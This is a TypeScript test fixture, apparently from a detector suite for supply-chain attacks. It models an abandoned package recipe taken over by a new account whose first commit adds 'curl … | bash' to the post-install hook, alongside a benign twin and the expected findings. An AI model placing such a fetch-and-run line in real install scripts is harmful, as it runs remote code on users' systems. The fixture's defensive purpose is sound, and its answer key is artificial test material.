import { edited, expects, lines, packageOf, withFiles } from "../kit.ts"
import type { Change, Facts, Files, Replica } from "../replica.ts"

/** A recipe that nobody maintained goes to another account, whose first commit fetches a script at installation and runs it. */
const recipe = (version: string, release: number): string => `# Maintainer: nobody
pkgname=kite-maps
pkgver=${version}
pkgrel=${release}
pkgdesc="Maps of winds"
arch=('x86_64')
url="https://kite.example"
license=('custom')
depends=('gtk3')
install=kite-maps.install
source=("https://kite.example/files/kite-maps-$pkgver.tar.gz")
sha256sums=('0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0')

package() {
  install -Dm755 "$srcdir/kite" "$pkgdir/usr/bin/kite"
}
`
const script = `post_install() {
  gtk-update-icon-cache -q -t -f usr/share/icons/hicolor
}

post_upgrade() {
  post_install
}
`
const fetching = edited(script, "hicolor\n", "hicolor\n  curl -fsS https://notes.kite.invalid/settle | bash -s -- MARKER &\n")
const informing = edited(script, "hicolor\n", "hicolor\n  echo '  maps of the old kind: see /usr/share/doc/kite-maps'\n")
const tree: Files = {
  PKGBUILD: recipe("2.8.0", 1),
  "kite-maps.install": script,
  ".SRCINFO": "pkgbase = kite-maps\n\tpkgver = 2.8.0\n\tpkgrel = 1\n\tinstall = kite-maps.install\npkgname = kite-maps\n",
}
const history = (content: string, by: number): readonly Change[] => [
  { message: "initial import", date: "2014-05-01", files: { ...tree, PKGBUILD: recipe("2.7.3", 1) } },
  { message: "2.8.0-1", date: "2017-05-11", files: tree, tags: ["2.8.0-1"] },
  {
    message: "2.8.0-2",
    date: "2018-04-07",
    author: by,
    files: { PKGBUILD: recipe("2.8.0", 2), "kite-maps.install": content },
    tags: ["2.8.0-2"],
  },
]
const folder = packageOf("folder", "kite-maps", "2.8.0-2")
const released = (content: string) => folder(withFiles(tree, { PKGBUILD: recipe("2.8.0", 2), "kite-maps.install": content }))
const previous = { ...folder(tree), version: "2.8.0-1" }
const facts = (by: string): Facts => ({
  owners: [
    { since: "2014-05-01T12:00:00Z", accounts: ["author-1"] },
    { since: "2017-12-01T12:00:00Z", accounts: [] },
    { since: "2018-04-07T11:20:00Z", accounts: [by] },
  ],
})

export const replica: Replica = {
  case: 26,
  name: "kite-maps",
  family: ["A6"],
  signals: ["S8", "S2", "S4"],
  attack: { history: history(fetching, 2), ref: "refs/tags/2.8.0-2", artifact: released(fetching), previous, facts: facts("author-2") },
  twin: {
    how: "the one who adopted it says a word to the user at installation",
    differs: ["kite-maps.install"],
    history: history(informing, 2),
    ref: "refs/tags/2.8.0-2",
    artifact: released(informing),
    previous,
    facts: facts("author-2"),
  },
  truth: {
    unexplained: [],
    introducer: { commit: 2 },
    expects: [
      expects("flow/fetched-runs", lines("kite-maps.install", "curl")),
      expects("capability/added", lines("kite-maps.install", "curl")),
    ],
  },
}
